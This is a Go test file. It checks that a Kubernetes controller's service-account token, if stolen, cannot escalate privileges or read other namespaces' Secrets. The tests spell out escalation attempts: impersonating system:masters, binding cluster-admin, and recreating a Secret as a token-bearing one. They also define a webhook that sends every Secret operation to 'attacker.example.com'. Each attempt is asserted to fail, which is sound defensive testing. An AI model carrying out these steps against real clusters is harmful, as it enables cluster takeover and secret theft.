package chart_test

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/yaml"

	"embargo.dev/test/controlplane"
)

// The namespace of the installation whose token is stolen, and another one.
const (
	own       = "embargo-system"
	elsewhere = "payroll"
)

// variant is an installation, and what it is meant to grant.
type variant struct {
	name      string
	kustomize bool   // by config/base instead of the chart
	values    string // of the chart
	view      bool   // whether it reads with the role view
	reports   bool   // whether it writes reports in kinds of others
	waivers   []string
}

var variants = []variant{
	{name: "config", kustomize: true, view: true, reports: true},
	{name: "the chart's defaults", view: true, reports: true},
	{name: "the chart, narrowed", values: "rbac: {read: workloads}\nreportAPI: none"},
	{name: "the chart with a waiver", values: waiver, view: true, reports: true, waivers: []string{"mail"}},
}

// thief has the token of an installation's service account.
type thief struct {
	variant

	config  *rest.Config
	client  *kubernetes.Clientset
	dynamic dynamic.Interface
	admin   *kubernetes.Clientset
	plane   *controlplane.ControlPlane
}

// kubectl runs the real kubectl as the administrator.
func (th *thief) kubectl(t *testing.T, args ...string) string {
	t.Helper()
	output, err := th.plane.Kubectl(context.WithoutCancel(t.Context()), args...).CombinedOutput()
	require.NoError(t, err, string(output))
	return string(output)
}

// TestAStolenTokenStaysInItsRoom takes the rights exactly as the manifests render them, and
// tries with a token that has them what would lead further.
func TestAStolenTokenStaysInItsRoom(t *testing.T) {
	plane, kubectl := cluster(t, true)
	kubectl("apply", "--server-side", "-k", filepath.Join(stage.root, "config", "crd"))
	manifest(t, plane, "apply", otherReports)
	kubectl("wait", "--for=condition=Established", "--timeout=30s", "crd", "--all")
	kubectl("create", "namespace", elsewhere)
	kubectl("-n", elsewhere, "create", "secret", "generic", "cloud-credentials", "--from-literal=key=x")
	kubectl("-n", elsewhere, "create", "configmap", "settings", "--from-literal=password=x")
	for _, v := range variants {
		t.Run(v.name, func(t *testing.T) {
			th := steal(t, v, plane)
			t.Run("it has no right that isn't meant", th.hasTheRightsThatAreMeant)
			t.Run("it reads no Secret but its own", th.readsNoSecret)
			t.Run("it becomes no other account", th.becomesNobodyElse)
			t.Run("it writes no other webhook configuration", th.writesNoWebhook)
			t.Run("it writes nothing else in its namespace", th.writesNothingElse)
			t.Run("it grants no waiver", th.grantsNoWaiver)
			t.Run("it raises no right", th.raisesNoRight)
			t.Run("it touches nothing that is off", th.touchesNothingThatIsOff)
		})
	}
}

// otherReports are the kinds of reports of others. Their schemas don't matter here.
const otherReports = `
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: reports.openreports.io}
spec:
  group: openreports.io
  scope: Namespaced
  names: {plural: reports, kind: Report}
  versions: [{name: v1alpha1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}]
---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: policyreports.wgpolicyk8s.io}
spec:
  group: wgpolicyk8s.io
  scope: Namespaced
  names: {plural: policyreports, kind: PolicyReport}
  versions: [{name: v1alpha2, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}]
`

// manifest gives a manifest to kubectl.
func manifest(t *testing.T, plane *controlplane.ControlPlane, verb, content string, args ...string) {
	t.Helper()
	cmd := plane.Kubectl(context.WithoutCancel(t.Context()), append([]string{verb, "-f", "-"}, args...)...)
	cmd.Stdin = strings.NewReader(content)
	output, err := cmd.CombinedOutput()
	require.NoError(t, err, string(output))
}

// steal installs a variant without its Deployment, since a thief first sees to it that the
// controller doesn't run, and takes a token. The next variant finds nothing of it.
func steal(t *testing.T, v variant, plane *controlplane.ControlPlane) *thief {
	t.Helper()
	th := &thief{variant: v, plane: plane}
	th.kubectl(t, "create", "namespace", own)
	rendering := v.render(t, plane)
	manifest(t, plane, "apply", rendering, "--server-side", "--force-conflicts")
	t.Cleanup(func() {
		manifest(t, plane, "delete", rendering, "--ignore-not-found")
		th.kubectl(t, "delete", "namespace", own, "--timeout=60s")
	})
	var err error
	th.admin, err = kubernetes.NewForConfig(plane.Config())
	require.NoError(t, err)
	th.config = rest.AnonymousClientConfig(plane.Config())
	th.config.BearerToken = strings.TrimSpace(th.kubectl(t, "-n", own, "create", "token", "embargo"))
	th.client, err = kubernetes.NewForConfig(th.config)
	require.NoError(t, err)
	th.dynamic, err = dynamic.NewForConfig(th.config)
	require.NoError(t, err)
	th.kubectl(t, "-n", own, "create", "serviceaccount", "powerful")
	th.kubectl(t, "-n", own, "create", "secret", "generic", "registry", "--from-literal=key=x")
	eventually(t, func() bool { // roles are aggregated, and the authorizer's caches follow
		pods, err := th.client.CoreV1().Pods(elsewhere).List(t.Context(), metav1.ListOptions{})
		return err == nil && len(pods.Items) == 0
	}, "it reads Pods")
	return th
}

// render returns the manifests of a variant, but for Deployment, CRDs and namespace.
func (v variant) render(t *testing.T, plane *controlplane.ControlPlane) string {
	t.Helper()
	var text string
	if v.kustomize {
		output, err := plane.Kubectl(t.Context(), "kustomize", filepath.Join(stage.root, "config", "base")).Output()
		require.NoError(t, err)
		text = string(output)
	} else {
		var err error
		text, err = template(t, 4, v.values, "--set=crds.enabled=false")
		require.NoError(t, err)
	}
	var kept []string
	for document := range strings.SplitSeq(text, "\n---\n") {
		var head metav1.TypeMeta
		require.NoError(t, yaml.Unmarshal([]byte(document), &head))
		switch head.Kind {
		case "Deployment", "CustomResourceDefinition", "Namespace":
		default:
			kept = append(kept, document)
		}
	}
	return strings.Join(kept, "\n---\n")
}

// object makes an object from YAML.
func object(t *testing.T, text string) *unstructured.Unstructured {
	t.Helper()
	o := &unstructured.Unstructured{}
	require.NoError(t, yaml.UnmarshalStrict([]byte(text), &o.Object))
	return o
}

// in returns a client with the token for a resource such as v1/secrets or
// apps/v1/deployments, of a namespace where it has one.
func (th *thief) in(t *testing.T, resource, namespace string) dynamic.ResourceInterface {
	t.Helper()
	i := strings.LastIndex(resource, "/")
	version, err := schema.ParseGroupVersion(resource[:i])
	require.NoError(t, err)
	client := th.dynamic.Resource(version.WithResource(resource[i+1:]))
	if namespace == "" {
		return client
	}
	return client.Namespace(namespace)
}

// cannotWrite insists that an object can be neither created nor applied nor updated nor
// deleted.
func (th *thief) cannotWrite(t *testing.T, resource, namespace, text string) {
	t.Helper()
	o, client := object(t, text), th.in(t, resource, namespace)
	_, err := client.Create(t.Context(), o, metav1.CreateOptions{})
	forbidden(t, err, "create %s %s", resource, o.GetName())
	_, err = client.Apply(t.Context(), o.GetName(), o, metav1.ApplyOptions{FieldManager: "embargo", Force: true})
	forbidden(t, err, "apply %s %s", resource, o.GetName())
	_, err = client.Update(t.Context(), o, metav1.UpdateOptions{})
	forbidden(t, err, "update %s %s", resource, o.GetName())
	forbidden(t, client.Delete(t.Context(), o.GetName(), metav1.DeleteOptions{}), "delete %s %s", resource, o.GetName())
}

func forbidden(t *testing.T, err error, what string, args ...any) {
	t.Helper()
	assert.Truef(t, apierrors.IsForbidden(err), what+": %v", append(args, err)...)
}

// applies insists that the controller can create an object of its own under its name.
func (th *thief) applies(t *testing.T, resource, namespace, text string) {
	t.Helper()
	o := object(t, text)
	_, err := th.in(t, resource, namespace).Apply(t.Context(), o.GetName(), o, metav1.ApplyOptions{FieldManager: "embargo", Force: true})
	assert.NoError(t, err)
}

const certificateSecret = "embargo-webhook-certificate"

func (th *thief) readsNoSecret(t *testing.T) {
	_, err := th.client.CoreV1().Secrets(own).Get(t.Context(), certificateSecret, metav1.GetOptions{})
	require.NoError(t, err, "its own")
	for _, namespace := range []string{own, elsewhere, metav1.NamespaceAll} {
		_, err := th.client.CoreV1().Secrets(namespace).List(t.Context(), metav1.ListOptions{})
		forbidden(t, err, "list in %q", namespace)
		_, err = th.client.CoreV1().Secrets(namespace).Watch(t.Context(), metav1.ListOptions{})
		forbidden(t, err, "watch in %q", namespace)
	}
	_, err = th.client.CoreV1().Secrets(own).Get(t.Context(), "registry", metav1.GetOptions{})
	forbidden(t, err, "another in its namespace")
	_, err = th.client.CoreV1().Secrets(elsewhere).Get(t.Context(), "cloud-credentials", metav1.GetOptions{})
	forbidden(t, err, "elsewhere")
	_, err = th.client.CoreV1().Secrets(elsewhere).List(t.Context(), metav1.ListOptions{FieldSelector: "metadata.name=" + certificateSecret})
	forbidden(t, err, "one of that name elsewhere")
}

// becomesNobodyElse tries to get a token of another account, by way of the Secret too: have
// it deleted, and create it again as one into which the token controller writes.
func (th *thief) becomesNobodyElse(t *testing.T) {
	secrets := th.client.CoreV1().Secrets(own)
	typed := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: certificateSecret, Annotations: map[string]string{corev1.ServiceAccountNameKey: "powerful"}},
		Type:       corev1.SecretTypeServiceAccountToken,
	}
	_, err := secrets.Update(t.Context(), typed, metav1.UpdateOptions{})
	require.True(t, apierrors.IsInvalid(err), "the type of a Secret stays: %v", err)

	secret, err := secrets.Get(t.Context(), certificateSecret, metav1.GetOptions{})
	require.NoError(t, err)
	secret.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "ConfigMap", Name: "never-was", UID: "7d7a2b1c-0f1e-4b8b-9d57-0a4f2f3f9a11"}}
	_, err = secrets.Update(t.Context(), secret, metav1.UpdateOptions{})
	require.NoError(t, err)
	eventually(t, func() bool {
		_, err := th.admin.CoreV1().Secrets(own).Get(t.Context(), certificateSecret, metav1.GetOptions{})
		return apierrors.IsNotFound(err)
	}, "the garbage collector deletes it")
	_, err = secrets.Create(t.Context(), typed, metav1.CreateOptions{})
	forbidden(t, err, "create the Secret anew")
	th.cannotWriteAnew(t, typed)
	th.kubectl(t, "-n", own, "create", "secret", "generic", certificateSecret) // as the docs say

	_, err = th.client.CoreV1().ServiceAccounts(own).CreateToken(t.Context(), "powerful", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
	forbidden(t, err, "request a token")
	for _, who := range []rest.ImpersonationConfig{{UserName: "admin", Groups: []string{"system:masters"}}, {UserName: "system:serviceaccount:" + own + ":powerful"}} {
		config := rest.CopyConfig(th.config)
		config.Impersonate = who
		client, err := kubernetes.NewForConfig(config)
		require.NoError(t, err)
		_, err = client.CoreV1().Pods(own).List(t.Context(), metav1.ListOptions{})
		forbidden(t, err, "impersonate %s", who.UserName)
	}
	th.cannotWrite(t, "v1/pods", own, "apiVersion: v1\nkind: Pod\nmetadata: {name: powerful}\nspec: {serviceAccountName: powerful, containers: [{name: c, image: nginx}]}")
}

// cannotWriteAnew insists that a Secret that isn't there can't be made by a patch or an
// update either.
func (th *thief) cannotWriteAnew(t *testing.T, secret *corev1.Secret) {
	t.Helper()
	o := object(t, "apiVersion: v1\nkind: Secret\nmetadata: {name: "+secret.Name+", annotations: {kubernetes.io/service-account.name: powerful}}\ntype: "+string(secret.Type))
	_, err := th.in(t, "v1/secrets", own).Apply(t.Context(), secret.Name, o, metav1.ApplyOptions{FieldManager: "embargo", Force: true})
	forbidden(t, err, "apply the Secret anew")
	_, err = th.client.CoreV1().Secrets(own).Update(t.Context(), secret, metav1.UpdateOptions{})
	require.Error(t, err, "update the Secret that isn't there")
	_, err = th.admin.CoreV1().Secrets(own).Get(t.Context(), secret.Name, metav1.GetOptions{})
	assert.True(t, apierrors.IsNotFound(err))
}

func (th *thief) writesNoWebhook(t *testing.T) {
	const evil = `
apiVersion: admissionregistration.k8s.io/v1
kind: %s
metadata: {name: harmless}
webhooks:
  - name: secrets.example.com
    clientConfig: {url: "https://attacker.example.com/"}
    rules: [{apiGroups: [""], apiVersions: [v1], operations: ["*"], resources: [secrets]}]
    admissionReviewVersions: [v1]
    sideEffects: None
`
	const group = "admissionregistration.k8s.io/v1/"
	th.cannotWrite(t, group+"validatingwebhookconfigurations", "", strings.ReplaceAll(evil, "%s", "ValidatingWebhookConfiguration"))
	th.cannotWrite(t, group+"mutatingwebhookconfigurations", "", strings.ReplaceAll(evil, "%s", "MutatingWebhookConfiguration"))
	_, err := th.in(t, group+"validatingwebhookconfigurations", "").List(t.Context(), metav1.ListOptions{})
	forbidden(t, err, "list those of others")
	th.applies(t, group+"validatingwebhookconfigurations", "", "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata: {name: embargo}\n")
	th.kubectl(t, "delete", "validatingwebhookconfiguration", "embargo")
}

func (th *thief) writesNothingElse(t *testing.T) {
	for _, name := range []string{"another", "embargo-config", "kube-root-ca.crt"} {
		th.cannotWrite(t, "v1/configmaps", own, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: "+name+"}\n")
	}
	th.cannotWrite(t, "coordination.k8s.io/v1/leases", own, "apiVersion: coordination.k8s.io/v1\nkind: Lease\nmetadata: {name: another}\n")
	th.cannotWrite(t, "coordination.k8s.io/v1/leases", "kube-node-lease", "apiVersion: coordination.k8s.io/v1\nkind: Lease\nmetadata: {name: node-1}\n")
	th.cannotWrite(t, "apps/v1/deployments", own, "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: embargo}\n")
	// Its own it can create, under their names.
	th.applies(t, "v1/configmaps", own, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: embargo-state}\n")
	th.applies(t, "coordination.k8s.io/v1/leases", own, "apiVersion: coordination.k8s.io/v1\nkind: Lease\nmetadata: {name: embargo}\n")
}

func (th *thief) grantsNoWaiver(t *testing.T) {
	named := func(name string) string {
		return strings.TrimSpace(`
apiVersion: embargo.dev/v1alpha1
kind: VendorWaiver
metadata: {name: ` + name + `}
spec:
  vendor: kaspersky
  namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: mail}}
  images: ["docker.io/kaspersky/**"]
  expires: "2099-01-01T00:00:00Z"
  reason: none
  approvedBy: nobody
`)
	}
	waivers := th.in(t, "embargo.dev/v1alpha1/vendorwaivers", "")
	o := object(t, named("forged"))
	_, err := waivers.Create(t.Context(), o, metav1.CreateOptions{})
	forbidden(t, err, "create")
	_, err = waivers.Apply(t.Context(), "forged", o, metav1.ApplyOptions{FieldManager: "embargo-values", Force: true})
	forbidden(t, err, "apply")
	_, err = waivers.Update(t.Context(), o, metav1.UpdateOptions{})
	forbidden(t, err, "update")
	for _, name := range th.waivers {
		th.applies(t, "embargo.dev/v1alpha1/vendorwaivers", "", named(name))
		require.NoError(t, waivers.Delete(t.Context(), name, metav1.DeleteOptions{}), "pruned")
	}
}

func (th *thief) raisesNoRight(t *testing.T) {
	const group = "rbac.authorization.k8s.io/v1/"
	const subjects = "subjects: [{kind: ServiceAccount, name: embargo, namespace: " + own + "}]\n"
	const head = "apiVersion: rbac.authorization.k8s.io/v1\nkind: "
	const all = "rules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*']}]\n"
	th.cannotWrite(t, group+"clusterrolebindings", "", head+"ClusterRoleBinding\nmetadata: {name: up}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n"+subjects)
	th.cannotWrite(t, group+"rolebindings", own, head+"RoleBinding\nmetadata: {name: up}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin}\n"+subjects)
	for _, role := range []string{"embargo", "embargo-controller", "view"} {
		th.cannotWrite(t, group+"clusterroles", "", head+"ClusterRole\nmetadata: {name: "+role+"}\n"+all)
	}
	th.cannotWrite(t, group+"roles", own, head+"Role\nmetadata: {name: embargo}\n"+all)
	th.cannotWrite(t, group+"clusterroles", "", head+"ClusterRole\nmetadata: {name: more, labels: {embargo.dev/aggregate-to-audit: 'true', rbac.authorization.k8s.io/aggregate-to-view: 'true'}}\n"+all)
	for _, q := range []string{"bind clusterroles", "escalate clusterroles", "bind roles", "escalate roles"} {
		verb, resource, _ := strings.Cut(q, " ")
		assert.False(t, th.may(t, right{verb, "rbac.authorization.k8s.io", resource, "", ""}), q)
	}
	for _, resource := range []string{"users", "groups", "serviceaccounts"} {
		assert.False(t, th.may(t, right{"impersonate", "", resource, "", ""}), resource)
	}
}

// touchesNothingThatIsOff looks at what the settings leave out.
func (th *thief) touchesNothingThatIsOff(t *testing.T) {
	for _, kind := range []string{"openreports.io/v1alpha1/reports", "wgpolicyk8s.io/v1alpha2/policyreports"} {
		err := th.in(t, kind, elsewhere).Delete(t.Context(), "of-another-engine", metav1.DeleteOptions{})
		if th.reports {
			assert.True(t, apierrors.IsNotFound(err), "%s: %v", kind, err)
			continue
		}
		forbidden(t, err, "delete %s of others", kind)
	}
	_, err := th.client.CoreV1().ConfigMaps(elsewhere).Get(t.Context(), "settings", metav1.GetOptions{})
	if th.view {
		require.NoError(t, err, "the role view reads ConfigMaps")
		return
	}
	forbidden(t, err, "get a ConfigMap elsewhere")
	_, err = th.client.CoreV1().ConfigMaps(metav1.NamespaceAll).List(t.Context(), metav1.ListOptions{})
	forbidden(t, err, "list ConfigMaps")
	err = th.client.CoreV1().Pods(elsewhere).GetLogs("any", &corev1.PodLogOptions{}).Do(t.Context()).Error()
	forbidden(t, err, "read logs")
}
